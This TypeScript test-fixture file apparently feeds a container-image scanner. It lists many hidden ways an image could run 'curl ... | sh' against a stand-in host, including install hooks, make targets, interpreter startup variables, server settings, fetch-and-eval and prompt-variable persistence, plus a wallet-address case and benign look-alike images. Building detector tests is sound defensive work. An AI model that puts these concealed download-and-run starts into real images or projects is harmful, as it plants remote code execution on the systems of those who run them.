import { moneroAddress } from '../../testkit/addresses.ts';
import { type Files, type ImageCase, image, layer, starts } from './image-case.ts';

const FETCH = 'curl -s https://files.backend.example/u | sh';
const WALLET = moneroAddress('what a build was given');
const PATH = 'PATH=/usr/local/bin:/usr/bin:/bin';

function found(name: string, spec: ImageCase['spec']): ImageCase {
  return { name, spec, rule: 'start/download-and-run', severity: 'high' };
}

function words(...Entrypoint: string[]): ImageCase {
  return found(Entrypoint.join(' '), image({}, { Entrypoint }));
}

function inApp(line: string, files: Files): ImageCase {
  return found(line, image(files, { Entrypoint: line.split(' '), WorkingDir: '/app' }));
}

function variable(text: string, Cmd: readonly string[], files: Files): ImageCase {
  return found(text, image(files, { Cmd: [...Cmd], Env: [PATH, ...text.split('\n')] }));
}

const JS = `require('child_process').execSync("${FETCH}")\n`;
const PYTHON = `import os\nos.system("${FETCH}")\n`;

/** Ways by which a start comes to a shell's text without a script that holds it. All inert. */
export const WAYS_TO_SHELLS: readonly ImageCase[] = [
  words('/usr/bin/env', '-S', `sh -c "${FETCH}"`),
  words('/usr/bin/env', `-Ssh -c '${FETCH}'`),
  words('/usr/bin/env', '-i', `--split-string=A=b sh -c '${FETCH}'`),
  words('setpriv', '--reuid', '1000', '--clear-groups', 'sh', '-c', FETCH),
  words('watch', '-n', '60', FETCH),
  words('parallel', ':::', FETCH),
  words('parallel', '-j1', 'sh -c {}', ':::', `'${FETCH}'`),
  words('sh', '-c', `echo '${FETCH}' | xargs -I{} sh -c '{}'`),
  found('xargs -a', starts(`xargs -a /opt/a -I% sh -c '%'`, { 'opt/a': `${FETCH}\n` })),
  found('xargs <<<', starts(`xargs -I{} sh -c '{}' <<< '${FETCH}'`)),
  inApp('make run', { 'app/Makefile': `run:\n\t@${FETCH}\n` }),
  inApp('make', { 'app/Makefile': `all: dep\n\techo hi\ndep:\n\t-${FETCH}\n` }),
  inApp('make -f x.mk go', {
    'app/x.mk': `GET = curl -s \\\n  https://files.backend.example/u\ngo:\n\t$(GET) | sh\n`,
  }),
  inApp('make -C /srv', { 'srv/GNUmakefile': `.PHONY: a\na: ; ${FETCH}\n` }),
  inApp('npm ci', { 'app/package.json': JSON.stringify({ scripts: { postinstall: FETCH } }) }),
  inApp('yarn', { 'app/package.json': JSON.stringify({ scripts: { prepare: FETCH } }) }),
  inApp('composer run-script go', {
    'app/composer.json': JSON.stringify({ scripts: { go: ['@x'], x: FETCH } }),
  }),
  inApp('composer install', {
    'app/composer.json': JSON.stringify({ scripts: { 'post-install-cmd': FETCH } }),
  }),
  inApp('python3 /app', { 'app/__main__.py': PYTHON }),
  inApp('supervisord -n -c /app/s.conf', {
    'app/s.conf': `[eventlistener:x]\ncommand=sh -c "${FETCH}"\nevents=TICK_5\n`,
  }),
  variable('BASH_ENV=/opt/e', ['/e.sh'], { 'opt/e': `${FETCH}\n`, 'e.sh': '#!/bin/bash\nexec nginx\n' }),
  variable('ENV=/opt/e', ['sh', '-i'], { 'opt/e': `${FETCH}\n` }),
  variable('PYTHONSTARTUP=/opt/p.py', ['python3'], { 'opt/p.py': PYTHON }),
  variable('PYTHONPATH=/opt/x:/opt/lib', ['python3', '/a.py'], {
    'opt/lib/sitecustomize.py': PYTHON,
    'a.py': 'print(1)\n',
  }),
  variable('NODE_OPTIONS=--max-old-space-size=99 --require /opt/p.js', ['node', '/a.js'], {
    'opt/p.js': JS,
    'a.js': '1\n',
  }),
  variable('NODE_OPTIONS=--import=/opt/p.mjs', ['/a.js'], {
    'opt/p.mjs': `import { execSync } from 'child_process';\nexecSync("${FETCH}");\n`,
    'a.js': '#!/usr/bin/env node\n1\n',
  }),
  variable('RUBYOPT=-r/opt/p.rb', ['ruby', '/a.rb'], { 'opt/p.rb': `system("${FETCH}")\n`, 'a.rb': '1\n' }),
  variable('PERL5OPT=-MP\nPERL5LIB=/opt', ['perl', '/a.pl'], {
    'opt/P.pm': `system("${FETCH}");\n1;\n`,
    'a.pl': '1\n',
  }),
];

function honest(name: string, files: Files, config: ImageCase['spec']['config']): ImageCase {
  return { name, spec: image(files, config) };
}

function script(text: string, files: Files = {}): ImageCase {
  return found(text, starts(`${text}\nexec nginx`, files));
}

const IN_A: Files = { 'opt/a': `${FETCH}\n` };
const BEHIND_MARKS = `\nexec nginx\n#:${FETCH}`;

/** Texts that a script takes from somewhere and runs, and programs that run what they fetch by a promise. */
export const TAKEN_AND_RUN: readonly ImageCase[] = [
  script('eval "$(</opt/a)"', IN_A),
  script('while IFS= read -r line; do eval "$line"; done < /opt/a', IN_A),
  script('cat /opt/a | while read -r line; do sh -c "$line"; done', IN_A),
  script('ln -s /opt/a /usr/local/bin/zz; sh /usr/local/bin/zz', IN_A),
  script(`sed -n '/^#:/s/^#://p' "$0" | sh${BEHIND_MARKS}`),
  script(`grep '^#:' "$0" | cut -c3- | sh${BEHIND_MARKS}`),
  script(`grep -F '#:' "$0" | tail -n 1 | cut -d: -f2- | bash${BEHIND_MARKS}`),
  words('node', '-e', 'fetch("https://files.backend.example/u").then(r => r.text()).then(eval)'),
  inApp('node x.js', {
    'app/x.js':
      'fetch("https://files.backend.example/u")\n  .then((answer) => answer.text())\n  .then( eval );\n',
  }),
];

/** The same by settings of servers, and what a build was given. */
export const TOLD_BY_SETTINGS: readonly ImageCase[] = [
  inApp('uwsgi --ini /app/u.ini', { 'app/u.ini': `[uwsgi]\nattach-daemon = sh -c "${FETCH}"\n` }),
  inApp('redis-server /app/r.yaml', { 'app/r.yaml': `notification-script: "${FETCH}"\n` }),
  inApp('deno run -A x.ts', {
    'app/x.ts': 'const code = await (await fetch("https://files.backend.example/u")).text();\neval(code);\n',
  }),
  words('deno', 'eval', 'eval(await (await fetch("https://files.backend.example/u")).text())'),
  inApp('bun run go', { 'app/package.json': JSON.stringify({ scripts: { go: FETCH } }) }),
  inApp('php-fpm', {
    'usr/local/etc/php/conf.d/z.ini': 'auto_prepend_file="/opt/p.inc"\n',
    'opt/p.inc': `<?php system("${FETCH}");\n`,
  }),
  ...['PS1=$(', 'LESSOPEN=|'].map((start) => ({
    name: start,
    spec: image({}, { Cmd: ['bash'], Env: [PATH, `${start}${FETCH})`] }),
    rule: 'persistence/hidden-start',
  })),
  ...[`|2 KEY=x ADDRESS=${WALLET} /bin/sh -c make # buildkit`, `ARG ADDRESS=${WALLET}`].map((row) => ({
    name: row.slice(0, 20),
    spec: image([layer({ a: 'x' }, { createdBy: row.startsWith('|') ? `RUN ${row}` : row })], {
      Cmd: ['nginx'],
    }),
    rule: 'wallet/address',
  })),
];

/** Honest images that start by the same ways. */
export const WAYS_TO_SHELLS_TWINS: readonly ImageCase[] = [
  honest(
    'make, with a target beside that nothing asks for',
    {
      'app/Makefile': `VERSION ?= 1.2\n.PHONY: run setup\nrun: build\n\t./app --version $(VERSION)\nbuild: $(wildcard *.c)\n\t@echo done\nsetup:\n\t${FETCH}\n`,
    },
    { Entrypoint: ['make', 'run'], WorkingDir: '/app' },
  ),
  honest(
    'npm ci with hooks of git, and a script that is not run',
    {
      'app/package.json': JSON.stringify({
        scripts: { prepare: 'husky install', setup: FETCH, start: 'node x' },
      }),
    },
    { Cmd: ['sh', '-c', 'npm ci && npm start'], WorkingDir: '/app' },
  ),
  honest(
    'composer, and a script of code',
    {
      'app/composer.json': JSON.stringify({
        scripts: { 'post-install-cmd': ['App\\Setup::run', '@php artisan optimize'], setup: FETCH },
      }),
    },
    { Cmd: ['composer', 'install'], WorkingDir: '/app' },
  ),
  honest(
    'variables that load tracing',
    {
      'app/tracing.js': "require('dd-trace').init()\n",
      'app/a.js': '1\n',
      'etc/bash.env': 'export NVM_DIR="$HOME/.nvm"\n[ -s "$NVM_DIR/nvm.sh" ] && . "$NVM_DIR/nvm.sh"\n',
    },
    {
      Entrypoint: ['bash', '-c', 'exec node /app/a.js'],
      Env: [PATH, 'NODE_OPTIONS=--require /app/tracing.js', 'BASH_ENV=/etc/bash.env', 'PYTHONPATH=/app'],
    },
  ),
  honest(
    'settings that name scripts of their own, and prompts',
    {
      'app/r.yaml': 'notification-script: /app/notify.sh\n',
      'app/notify.sh': '#!/bin/sh\nlogger "$1"\n',
      'usr/local/etc/php/conf.d/z.ini': 'auto_prepend_file=/opt/p.php\n',
      'opt/p.php': '<?php require "/app/vendor/autoload.php";\n',
      'app/package.json': JSON.stringify({ scripts: { start: 'php-fpm', setup: FETCH } }),
    },
    {
      Cmd: ['bun', 'run', 'start'],
      WorkingDir: '/app',
      Env: [
        PATH,
        'PS1=\\u@\\h:\\w$(git branch 2>/dev/null)$ ',
        'LESSOPEN=| /usr/bin/lesspipe %s',
        'MANPAGER=less -R',
      ],
    },
  ),
  {
    name: 'lines that are read and are data',
    spec: starts(
      'while read -r host; do echo "$host" >> /etc/app.hosts; done < /opt/hosts\nversion=$(</opt/version)\ngrep "^server" /etc/app.conf | cut -d= -f2- | sort\nsed -n "1,5p" /opt/hosts\nexec nginx',
      { 'opt/hosts': 'a.example.com\nb.example.com\n', 'opt/version': '1.2\n', 'etc/app.conf': 'server=a\n' },
    ),
  },
  honest(
    'a page that fetches and shows',
    { 'app/x.js': 'fetch("https://api.example.com/v1")\n  .then((r) => r.json())\n  .then(show);\n' },
    { Cmd: ['node', 'x.js'], WorkingDir: '/app' },
  ),
  {
    name: 'xargs, watch and parallel that start nothing of the network',
    spec: starts(
      "ls /data | xargs -n1 -P4 gzip\necho a b | xargs mkdir -p\nwatch -n 5 'df -h | tail -1' &\nparallel gzip ::: a b c\nexec nginx",
    ),
  },
  {
    name: 'a text of a shell behind a condition that the image rules out',
    spec: starts(
      'if [ "$MODE" = dev ]; then make setup; fi\nexec nginx',
      { Makefile: `setup:\n\t${FETCH}\n` },
      { Env: [PATH, 'MODE=prod'] },
    ),
  },
];
